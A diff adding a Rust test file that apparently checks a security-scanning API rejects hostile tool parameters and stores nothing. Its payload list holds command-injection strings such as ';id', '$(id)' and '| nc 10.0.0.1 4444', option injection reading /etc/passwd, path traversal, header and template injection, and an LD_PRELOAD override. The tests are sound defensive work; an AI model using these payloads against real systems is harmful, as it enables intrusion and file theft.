@@ -1,0 +1,162 @@
+//! Parameters that nobody means well, for every tool of the catalogue and every way to ask for it (A1–A22 of
+//! `docs/security.md`): 400 that names the field, and nothing is stored. A tool that is added is tested without a word here.
+
+use picket_scanners::{Asked, ScanSpec, Tool};
+use serde_json::{Map, Value, json};
+
+use crate::{
+    harness::{Answer, Member, TestApp},
+    scans::allow_example,
+};
+
+async fn start() -> (TestApp, Member) {
+    let app = TestApp::spawn_with(|settings| {
+        allow_example(settings);
+        settings.rate_limits = false;
+    })
+    .await;
+    let member = app.member("ada@example.com").await;
+    (app, member)
+}
+
+/// Values that fit no parameter of any tool.
+fn hostile() -> Vec<Value> {
+    let texts = [
+        ";id",
+        "$(id)",
+        "`id`",
+        "| nc 10.0.0.1 4444",
+        "-oN /scratch/x",
+        "--script=/etc/passwd",
+        "-iL/etc/passwd",
+        "--openssl=/scratch/x",
+        "-config",
+        "+/tmp/x.rb",
+        "http://evil.example/",
+        "@/etc/passwd",
+        "../../etc/passwd",
+        "a\nb",
+        "a\r\nX-Injected: 1",
+        "a\tb",
+        "a\u{a0}b",
+        "٤٤٣",
+        "%H",
+        "{{7*7}}",
+    ];
+    let mut values: Vec<Value> = texts.iter().map(|text| json!(text)).collect();
+    values.extend(texts.iter().take(6).map(|text| json!([text])));
+    values.push(json!("A".repeat(64 * 1024)));
+    values.extend([json!({"$ne": null}), json!([[]]), json!(-1), json!(1e300), json!(0.5), json!([null])]);
+    values
+}
+
+/// The parameters of a tool that its schema names.
+fn properties(tool: &dyn Tool) -> Vec<String> {
+    let schema = tool.params_schema();
+    let names: Vec<String> = schema["properties"].as_object().into_iter().flat_map(Map::keys).cloned().collect();
+    assert!(!names.is_empty(), "{} tells of no parameter", tool.slug());
+    names
+}
+
+/// The same parameters at every entry point.
+async fn ask(app: &TestApp, member: &Member, tool: &str, parameters: &Value) -> [Answer; 2] {
+    let create = json!({"target": "example.com", "tool": tool, "parameters": parameters});
+    let rehearse = json!({"target": "example.com", "parameters": parameters});
+    let path = format!("/api/v2/tools/{tool}/build-command");
+    [
+        app.post("/api/v1/scans/create", Some(&member.token), &create).await,
+        app.post(&path, Some(&member.token), &rehearse).await,
+    ]
+}
+
+/// Nothing was stored for what was refused, and nothing audited as if it had been.
+async fn assert_nothing(app: &TestApp) {
+    let sql = "SELECT (SELECT count(*) FROM scans) + (SELECT count(*) FROM tasks) + (SELECT count(*) FROM events)
+                      + (SELECT count(*) FROM audit_log WHERE entry LIKE '%\"scan.%')";
+    let row = app.database.connect().await.query_one(sql, &[]).await.unwrap();
+    assert_eq!(row.get::<_, i64>(0), 0);
+}
+
+#[test]
+fn a23_no_hostile_value_of_a_stored_task_passes_the_door() {
+    for tool in picket_scanners::ALL {
+        for name in properties(*tool) {
+            for value in hostile() {
+                let parameters = json!({name.as_str(): value});
+                let forged = ScanSpec::try_from(Asked { tool: tool.slug(), parameters: Some(&parameters) });
+                assert!(forged.is_err(), "{} took {parameters}", tool.slug());
+            }
+        }
+        for parameters in [json!(null), json!([]), json!("-sV"), json!(1), json!({"env": {"LD_PRELOAD": "/tmp/x"}})] {
+            let forged = ScanSpec::try_from(Asked { tool: tool.slug(), parameters: Some(&parameters) });
+            assert!(forged.is_err(), "{} took {parameters}", tool.slug());
+        }
+    }
+}
+
+#[tokio::test]
+async fn a1_to_a19_hostile_values_of_every_parameter_of_every_tool_are_refused() {
+    let (app, member) = start().await;
+    for tool in picket_scanners::ALL {
+        for name in properties(*tool) {
+            for value in hostile() {
+                for answer in ask(&app, &member, tool.slug(), &json!({name.as_str(): value})).await {
+                    let refused = answer.assert_problem(400, "invalid_request");
+                    let field = refused["errors"][0]["field"].as_str().unwrap();
+                    assert!(field.starts_with(&format!("parameters.{name}")), "{} {value}: {field}", tool.slug());
+                    assert!(answer.text.len() < 4_096, "a refusal repeats what was sent: {}", answer.text.len());
+                }
+            }
+        }
+    }
+    assert_nothing(&app).await;
+}
+
+#[tokio::test]
+async fn a20_to_a22_bodies_of_every_tool_know_their_fields() {
+    let (app, member) = start().await;
+    for tool in picket_scanners::ALL {
+        for (name, value) in [
+            ("env", json!({"NMAPDIR": "/tmp"})),
+            ("args", json!(["-oN", "/scratch/x"])),
+            ("script-args", json!("newtargets")),
+            ("--open", json!(true)),
+            ("__proto__", json!({})),
+        ] {
+            for answer in ask(&app, &member, tool.slug(), &json!({name: value})).await {
+                answer.assert_field(&format!("parameters.{name}"), "unknown_field");
+            }
+        }
+        for parameters in [json!(null), json!([]), json!("-sV"), json!(7), json!(true)] {
+            for answer in ask(&app, &member, tool.slug(), &parameters).await {
+                assert_eq!(answer.status, 400, "{parameters}: {}", answer.text);
+            }
+        }
+        let name = properties(*tool).remove(0);
+        let deep = format!("{}{}", "[".repeat(10_000), "]".repeat(10_000));
+        for parameters in [format!("{{\"{name}\":1,\"{name}\":1}}"), format!("{{\"{name}\":{deep}}}")] {
+            let body =
+                format!("{{\"target\":\"example.com\",\"tool\":\"{}\",\"parameters\":{parameters}}}", tool.slug());
+            let answer = app.post_raw("/api/v1/scans/create", Some(&member.token), body).await;
+            answer.assert_problem(400, "invalid_request");
+        }
+    }
+    assert_nothing(&app).await;
+}
+
+#[tokio::test]
+async fn a23_options_of_a_plan_carry_no_parameters() {
+    let (app, member) = start().await;
+    for value in hostile() {
+        for option in ["port_scan", "web_scan", "ssl_scan", "include_subdomain"] {
+            let body = json!({"target": "example.com", "options": {option: value}});
+            let answer = app.post("/api/v2/scans", Some(&member.token), &body).await;
+            answer.assert_problem(400, "invalid_request");
+        }
+    }
+    for (name, value) in [("parameters", json!({"ports": "1"})), ("tool", json!("nmap")), ("ports", json!("1"))] {
+        let body = json!({"target": "example.com", name: value});
+        app.post("/api/v2/scans", Some(&member.token), &body).await.assert_field(name, "unknown_field");
+    }
+    assert_nothing(&app).await;
+}
